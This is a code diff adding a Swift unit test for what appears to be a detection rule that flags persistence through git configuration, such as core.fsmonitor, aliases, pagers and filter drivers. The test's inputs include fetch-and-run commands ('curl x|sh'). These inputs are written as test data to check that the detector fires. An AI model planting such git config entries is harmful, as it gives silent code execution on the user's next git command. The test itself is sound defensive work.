@@ -286,6 +286,36 @@ final class PersistRuleTests: XCTestCase {
         ])
     }
 
+    func testGitConfig() {
+        func gitConfig(_ args: [String], _ file: String, pid: Int32 = 300) -> [Event] {
+            [E.exec("/usr/bin/git", ["git", "config"] + args, pid: pid, owner: 0, mode: 0o100755),
+             E.rename(file + ".lock", file, pid: pid)]
+        }
+        check("persist.git_config", fire: [
+            Row("core.fsmonitor in the user's config: runs at every git status", gitConfig(["--global", "core.fsmonitor", "curl x|sh"], "/home/dev/.gitconfig")),
+            Row("a shell alias", gitConfig(["--global", "alias.st", "!sh -c 'curl x|sh'"], "/home/dev/.gitconfig")),
+            Row("include.path pulls in more", gitConfig(["--global", "include.path", "/tmp/x.inc"], "/home/dev/.gitconfig")),
+            Row("a pager that is a shell command", gitConfig(["--global", "core.pager", "sh -c 'curl x|sh; less'"], "/home/dev/.gitconfig")),
+            Row("git config set (2.46 syntax), system-wide", gitConfig(["set", "--system", "core.sshCommand", "ssh -o ProxyCommand=x"], "/etc/gitconfig")),
+            Row("a filter driver in another repository", gitConfig(["filter.x.clean", "sh -c x"], "/home/dev/other/.git/config")),
+            Row("XDG git config written by hand", [E.open("/home/dev/.config/git/config", "wa")]),
+            Row("the user's .gitconfig written by a copy named git", [
+                E.exec("/home/dev/proj/git", ["git", "config", "--global", "user.name", "x"], pid: 301), E.open("/home/dev/.gitconfig", "wa", pid: 301)]),
+        ], quiet: [
+            Row("user.email, the agent's own identity", gitConfig(["--global", "user.email", "agent@example.com"], "/home/dev/.gitconfig")),
+            Row("a plain pager", gitConfig(["--global", "core.pager", "less -R"], "/home/dev/.gitconfig")),
+            Row("the workspace repository's remote", gitConfig(["remote.origin.url", "https://example.com/x.git"], "/home/dev/proj/.git/config")),
+            Row("git clone writes its repository's config", [
+                E.exec("/usr/bin/git", ["git", "clone", "https://example.com/x.git"], pid: 302), E.rename("/home/dev/proj/x/.git/config.lock", "/home/dev/proj/x/.git/config", pid: 302)]),
+            Row("a workspace repository's config edited by hand", [E.open("/home/dev/proj/.git/config", "wa")]),
+            Row("reading the user's config", [E.open("/home/dev/.gitconfig")]),
+            Row("core.hooksPath is persist.git_hooks'", gitConfig(["--global", "core.hooksPath", "/tmp/h"], "/home/dev/.gitconfig")),
+        ])
+        // the workspace's own repository: reported low (the person's next git there runs it)
+        let s = Row("fsmonitor in the workspace repo", gitConfig(["core.fsmonitor", "curl x|sh"], "/home/dev/proj/.git/config")).run()
+        XCTAssertEqual(s.findings.first { $0.rule == "persist.git_config" }?.severity, .low)
+    }
+
     func testGitHooks() {
         check("persist.git_hooks", fire: [
             R("hook in another repository", E.write("/home/dev/other/.git/hooks/pre-commit", mode: 0o755)),
